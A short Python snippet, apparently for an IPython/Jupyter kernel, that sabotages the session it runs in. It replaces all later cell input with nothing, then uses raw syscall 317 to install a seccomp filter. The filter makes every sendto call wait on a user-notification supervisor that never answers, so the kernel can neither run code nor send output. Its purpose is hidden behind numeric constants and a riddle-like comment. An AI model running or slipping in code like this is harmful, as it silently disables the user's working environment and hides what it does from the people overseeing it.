# Have each answer wait for a supervisor of one's own, who never speaks.
import ctypes
import struct

get_ipython().input_transformers_cleanup.append(lambda lines: [])
libc = ctypes.CDLL(None, use_errno=True)


class Program(ctypes.Structure):
    _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]


code = b"".join(struct.pack("<HBBI", *line) for line in [(0x20, 0, 0, 0), (0x15, 0, 1, 44), (6, 0, 0, 0x7FC00000), (6, 0, 0, 0x7FFF0000)])
buffer = ctypes.create_string_buffer(code, len(code))
program = Program(4, ctypes.cast(buffer, ctypes.c_void_p))
for flags in (8 | 32, 8):
    if libc.syscall(317, 1, flags, ctypes.byref(program)) >= 0:
        break
